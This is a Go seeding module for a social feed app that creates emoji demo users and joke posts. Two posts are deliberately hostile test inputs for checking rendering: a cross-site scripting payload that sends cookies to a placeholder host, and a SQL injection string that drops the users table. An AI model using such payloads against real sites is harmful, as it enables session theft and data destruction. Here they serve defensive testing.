// Package seed fills an empty store with demo users and posts.
package seed

import (
	"context"
	"fmt"
	"math/rand"
	"time"

	"go.uber.org/zap"

	"github.com/roary/feed/internal/models"
)

// DemoUser is a seeded account
type DemoUser struct {
	Username string
	Avatar   string
}

// Users are the demo accounts
var Users = []DemoUser{
	{"FroggyFrank0x539", "🐸"},
	{"TubularTurtle0x2A", "🐢"},
	{"SlickSnake25", "🐍"},
	{"RadicalRex247", "🦖"},
	{"DynamiteDino1337", "🦕"},
	{"DoggyDan342", "🐶"},
	{"CoolCat67", "🐱"},
	{"ButterflyBetty42", "🦋"},
}

// Messages are the demo posts. Some are hostile on purpose so rendering gets exercised.
var Messages = []string{
	`I love cookies!🍪 '<script>window.location.replace("https://example.invalid/?" + document.cookie)</script>'`,
	"Is there a seahorse emoji?🐎",
	"Are there any NFL teams that don't end in s?",
	"When will there be soja-döner again??😥",
	`Hey "@'; DROP TABLE users;--", how are you doing? 🗑️`,
	"Attention, the floor is java! ☕",
	"Why do Java developers wear glasses? Because they don't C# 😎",
	"I'm not procrastinating, I'm just refactoring my time ⏰",
	"404: Motivation not found 😴",
	"Copy-paste from Stack Overflow without reading: 10% of the time, it works every time 📋",
	"There's no place like 127.0.0.1 🏠",
}

const (
	window  = 24 * time.Hour
	spacing = 10 * time.Minute
)

// PostWriter is the part of the store the seeder writes posts through
type PostWriter interface {
	CountPosts(ctx context.Context) (int64, error)
	InsertPost(ctx context.Context, author, content string, createdAt int64) (int64, error)
}

// UserWriter creates users that do not exist yet
type UserWriter interface {
	Ensure(ctx context.Context, username, avatar string) (*models.User, error)
}

// Seeder writes the demo data set
type Seeder struct {
	posts  PostWriter
	users  UserWriter
	rnd    *rand.Rand
	now    func() time.Time
	logger *zap.Logger
}

// New creates a seeder. rnd picks authors and timestamps; pass a fixed source for
// reproducible data.
func New(posts PostWriter, users UserWriter, rnd *rand.Rand, logger *zap.Logger) *Seeder {
	if rnd == nil {
		rnd = rand.New(rand.NewSource(time.Now().UnixNano()))
	}
	return &Seeder{posts: posts, users: users, rnd: rnd, now: time.Now, logger: logger}
}

// Run seeds the store unless it already holds posts. It reports how many posts it wrote.
func (s *Seeder) Run(ctx context.Context) (int, error) {
	count, err := s.posts.CountPosts(ctx)
	if err != nil {
		return 0, fmt.Errorf("failed to count posts: %w", err)
	}
	if count > 0 {
		s.logger.Info("Store already has posts, skipping seed", zap.Int64("posts", count))
		return 0, nil
	}

	for _, u := range Users {
		if _, err := s.users.Ensure(ctx, u.Username, u.Avatar); err != nil {
			return 0, fmt.Errorf("failed to create user %s: %w", u.Username, err)
		}
	}

	now := s.now().Unix()
	oldest := now - int64(window.Seconds())
	for i, content := range Messages {
		author := Users[s.rnd.Intn(len(Users))].Username
		// later messages may land later, so the demo reads roughly in order
		newest := now - int64(len(Messages)-i)*int64(spacing.Seconds())
		createdAt := oldest + s.rnd.Int63n(newest-oldest+1)

		if _, err := s.posts.InsertPost(ctx, author, content, createdAt); err != nil {
			return i, fmt.Errorf("failed to insert post %d: %w", i, err)
		}
	}

	s.logger.Info("Seeded demo data", zap.Int("users", len(Users)), zap.Int("posts", len(Messages)))
	return len(Messages), nil
}
